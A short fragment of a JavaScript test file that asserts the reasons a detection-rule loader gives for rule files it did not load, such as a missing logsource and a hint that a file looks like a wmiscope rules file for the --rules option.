  assert.deepEqual(set.summary.notLoaded.map((n) => n.why), ['no logsource: this looks like a wmiscope rules file (rules: [...]), which --rules reads', 'no logsource']);
});
